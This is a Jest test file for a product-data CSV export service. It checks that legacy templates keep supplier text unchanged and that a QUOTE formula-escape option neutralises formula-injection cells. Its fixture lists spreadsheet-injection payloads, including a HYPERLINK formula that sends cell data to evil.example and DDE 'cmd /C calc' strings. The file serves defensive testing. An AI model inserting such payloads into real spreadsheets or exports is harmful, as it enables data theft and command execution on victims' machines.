import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { TempBucket, productLine } from '../support/bucket-factory';
import { exportAndWait, fileByName, parseCsv, readLocal } from '../support/export-helpers';
import { PROJECT_ROOT, TestDatabase, createTestDatabase } from '../support/test-database';
import { startTestServer } from '../support/test-server';

/**
 * CSV formula injection (issue 11, item 6): text from inRiver that a spreadsheet would run as a
 * formula. The legacy files stay byte for byte as they were; a template with formulaEscape QUOTE
 * defuses every such cell and still reads back with a standard parser.
 */

/** ItemSupplierShortDescriptionEN of items 3480…: one per trigger character. */
const HOSTILE: Record<number, string> = {
  3480: '=HYPERLINK("http://evil.example/?d="&A1,"Click here")',
  3481: "=cmd|' /C calc'!A0",
  3482: "+1+cmd|' /C calc'!A0",
  3483: "-2+3+cmd|' /C calc'!A0",
  3484: "@SUM(1+1)*cmd|' /C calc'!A0",
  3485: '\t=1+2',
  3486: '\r=1+2',
};

const TEMPLATE_MUTATION = `mutation($input: CsvTemplateInput!) { upsertCsvTemplate(businessUnit: "bak", input: $input) {
  name version encoding formulaEscape } }`;

describe('CSV formula injection', () => {
  let t: TestDatabase;
  let s: Awaited<ReturnType<typeof startTestServer>>;
  let bucket: TempBucket;
  let dir: string;

  beforeAll(async () => {
    t = await createTestDatabase(['bak']);
    bucket = new TempBucket().copyFrom(path.join(PROJECT_ROOT, 'samples', 'bucket'));
    bucket.product('BAK', 'ecommerce_20260416080000_001.jsonl', [productLine({
      id: 19480, productId: 'P-HOSTILE',
      items: Object.entries(HOSTILE).map(([id, text]) => ({
        id: Number(id), attrs: { ItemSupplierShortDescriptionEN: text, ItemManufacturerItemNo: id === '3480' ? '-5' : `M-${id}` },
      })),
    })]);
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pim-export-'));
    s = await startTestServer(t, { bucketDir: bucket.root, exportUrl: pathToFileURL(dir).href });
    await expect(s.load('bak')).resolves.toMatchObject({ status: 'done', applied: 5 });
  });
  afterAll(async () => {
    await s.stop();
    await t.close();
    bucket.remove();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('leaves every template unescaped by default: the legacy files carry such text exactly as delivered', async () => {
    const list = await s.gql('{ csvTemplates(businessUnit: "bak") { name formulaEscape } }');
    expect(list.body.errors).toBeUndefined();
    expect(list.body.data.csvTemplates.map((x: any) => x.formulaEscape)).toEqual(Array(8).fill('NONE'));

    const job = await exportAndWait(s.gql, 'bak', { templates: ['items.csv'] });
    expect(job.status).toBe('SUCCEEDED');
    const bytes = readLocal(fileByName(job, 'items.csv').uri);
    const names = new Map(parseCsv(bytes).slice(1).map((r) => [Number(r[0]), r[4]]));
    for (const [id, text] of Object.entries(HOSTILE)) expect(names.get(Number(id))).toBe(text);
    const text = bytes.toString('utf8');
    expect(text).toContain(`\n3481,W-3481,P-HOSTILE,19480,=cmd|' /C calc'!A0,M-3481,`);
    expect(text).toContain('\n3480,W-3480,P-HOSTILE,19480,"=HYPERLINK(""http://evil.example/?d=""&A1,""Click here"")",-5,');
    expect(text).not.toContain("'=");
  });

  it('with formulaEscape QUOTE prefixes every such cell with an apostrophe, keeps numbers and the header, and still round-trips', async () => {
    const input = {
      name: 'items-for-excel.csv', rowSource: 'ITEM', encoding: 'UTF_8_BOM', formulaEscape: 'QUOTE', columns: [
        { columnName: 'item_id', sourceType: 'INRIVER_FIELD', sourceValue: 'EntityId', required: true },
        { columnName: '=name', sourceType: 'INRIVER_FIELD', sourceValue: 'ItemSupplierShortDescriptionEN' },
        { columnName: 'mfr', sourceType: 'INRIVER_FIELD', sourceValue: 'ItemManufacturerItemNo' },
        { columnName: 'note', sourceType: 'STATIC', sourceValue: '@note' },
      ],
    };
    const saved = await s.gql(TEMPLATE_MUTATION, { input });
    expect(saved.body.errors).toBeUndefined();
    expect(saved.body.data.upsertCsvTemplate).toEqual({ name: 'items-for-excel.csv', version: 1, encoding: 'UTF_8_BOM', formulaEscape: 'QUOTE' });

    const job = await exportAndWait(s.gql, 'bak', { templates: ['items-for-excel.csv'] });
    expect(job.status).toBe('SUCCEEDED');
    const bytes = readLocal(fileByName(job, 'items-for-excel.csv').uri);
    const [header, ...rows] = parseCsv(bytes, { bom: true });
    expect(header).toEqual(['item_id', '=name', 'mfr', 'note']);
    const byId = new Map(rows.map((r) => [Number(r[0]), r]));
    for (const [id, text] of Object.entries(HOSTILE)) {
      const row = byId.get(Number(id))!;
      expect(row[1]).toBe(`'${text}`);
      expect(row[3]).toBe("'@note");
    }
    expect(byId.get(3480)![2]).toBe('-5');
    expect(byId.get(3424)!.slice(1)).toEqual(['Round run capacitor 45/5', 'C45-5R', "'@note"]);
    expect(bytes.toString('utf8')).toContain(`\n3481,'=cmd|' /C calc'!A0,M-3481,'@note\n`);

    // Saved without it, the template is back to the default: part of its shape, so its version goes up.
    const reset = await s.gql(TEMPLATE_MUTATION, { input: { ...input, formulaEscape: undefined } });
    expect(reset.body.data.upsertCsvTemplate).toMatchObject({ version: 2, formulaEscape: 'NONE' });
  });
});
